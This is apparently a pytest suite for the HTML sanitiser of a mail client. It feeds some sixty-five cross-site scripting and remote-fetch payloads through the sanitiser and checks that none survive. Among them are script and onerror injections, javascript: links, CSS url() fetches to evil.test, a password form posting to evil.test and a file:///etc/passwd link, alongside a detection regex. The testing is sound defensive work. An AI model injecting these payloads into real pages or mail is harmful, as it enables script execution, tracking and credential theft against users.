"""HTML of strangers, made harmless: the forms by which pages act, fetch or lie."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.mail.monsters import MB
from ulak.mail import html_clean
from ulak.mail.html_clean import html_of, sanitised

# After the cheat sheets: each tries to run something, or to fetch something from elsewhere.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.test/pixel.gif>",
    "<img src=//evil.test/pixel.gif>",
    "<img src=cid:part1@a.test>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img srcset='http://evil.test/1x.png 1x'>",
    "<img lowsrc=http://evil.test/a dynsrc=http://evil.test/b longdesc=http://evil.test/c>",
    "<picture><source srcset=http://evil.test/a></picture>",
    "<input type=image src=http://evil.test/a>",
    "<body onload=alert(1) background=http://evil.test/a>",
    "<table background=http://evil.test/a><td background=javascript:alert(1)>x",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image href=http://evil.test/a /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<base href=http://evil.test/>",
    "<link rel=stylesheet href=http://evil.test/a.css>",
    "<style>@import url(http://evil.test/a.css)</style>",
    "<style>body{background:url(http://evil.test/a)}</style>",
    "<div style='background:url(http://evil.test/a)'>x</div>",
    '<div style="background-image:\\0075rl(http://evil.test/a)">x</div>',
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<form action=http://evil.test/><input name=password><button>Giriş</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<iframe src=http://evil.test/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.test/a.swf></object>",
    "<embed src=http://evil.test/a.swf>",
    "<applet code=x archive=http://evil.test/a.jar></applet>",
    "<video poster=http://evil.test/a><source onerror=alert(1)></video>",
    "<audio src=http://evil.test/a autoplay></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=//evil.test/>x</a>",
    "<a href=/relative>x</a>",
    "<a href='https://a.test' onclick=alert(1) target=_blank ping=http://evil.test/>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<p/onmouseover=alert(1)>x",
    "<\x00script>alert(1)</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<isindex action=javascript:alert(1)>",
    "<a href='https://a.test\"onmouseover=alert(1)'>x</a>",
]
ACTS = re.compile(
    r"<(?!/?(?:"
    + "|".join(sorted(html_clean._TAGS))
    + r")[ >])|<[^>]*\s(?:on\w+|style|src\w*|background|action"
    r"|formaction|poster|data|ping|target|xlink:href|id|class)\s*=|evil\.test|javascript:|vbscript:",
    re.IGNORECASE,
)
_QUOTED = re.compile(r'"[^"]*"')


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_acts_or_fetches(attack):
    clean = sanitised(f"<p>önce</p>{attack}<p>sonra</p>")
    assert "önce" in clean
    assert not ACTS.search(_QUOTED.sub('""', clean)), clean
    assert "evil.test" not in clean
    assert not re.search(r'href="(?!https?:|mailto:)', clean), clean


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ("<p>Şikâyet <b>var</b></p>", "<p>Şikâyet <b>var</b></p>"),
        (
            '<a href="https://crt.sh/?id=1">kayıt</a>',
            '<a href="https://crt.sh/?id=1" rel="noopener noreferrer nofollow">kayıt</a>',
        ),
        (
            '<a href="mailto:a@b.test">a</a>',
            '<a href="mailto:a@b.test" rel="noopener noreferrer nofollow">a</a>',
        ),
        ('<img src="cid:1" alt="Mühür">', '<img alt="Mühür">'),
        (
            "<table><tr><td colspan=2>x</td></tr></table>",
            '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
        ),
        ("<html><head><title>t</title></head><body><article>x</article></body></html>", "x"),
        ("1 < 2 & 3", "1 &lt; 2 &amp; 3"),
        ("", ""),
    ],
)
def test_what_people_wrote_stays(html, kept):
    assert sanitised(html) == kept


@given(st.text(alphabet="<>/=\"' abpsvgdi!-&;:()\x00onerror", max_size=200))
def test_any_tag_soup_comes_out_clean_and_once_is_enough(soup):
    clean = sanitised(soup)
    assert not ACTS.search(_QUOTED.sub('""', clean))
    assert sanitised(clean) == clean


def test_a_page_costs_no_more_than_a_page():
    began = time.process_time()
    for piece in ("<div>", "<b><p>", "<table>x", "<a href=https://a.test>", "&", "& <", "<p a=b ", "\xa0"):
        assert len(sanitised(piece * (2 * MB // len(piece)))) <= html_clean.SANITISED_LIMIT
    assert time.process_time() - began < 30


def test_what_grows_too_large_is_not_kept():
    page = "<a title='" + '"' * (MB // 2) + "'>x</a>"
    assert sanitised(page) == ""  # each quotation mark is written as six letters


HTML = "Content-Type: text/html; charset=iso-8859-9\r\n\r\n<p onclick=x()>Işık</p>"
ALTERNATIVE = (
    "From: a@b.test\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n"
    "--b\r\nContent-Type: text/plain; charset=iso-8859-9\r\n\r\nIşık\r\n--b\r\n" + HTML + "\r\n--b--\r\n"
)


def test_the_html_of_a_mail_is_found_beside_its_plain_text():
    assert html_of(ALTERNATIVE.encode("iso-8859-9")) == "<p>Işık</p>"
    assert html_of(b"From: a@b.test\r\n\r\nmetin") == ""


def test_several_pages_stand_apart():
    two = ALTERNATIVE.replace("alternative", "mixed").replace("--b--", "--b\r\n" + HTML + "\r\n--b--")
    assert html_of(two.encode("iso-8859-9")) == "<p>Işık</p>\n<hr>\n<p>Işık</p>"
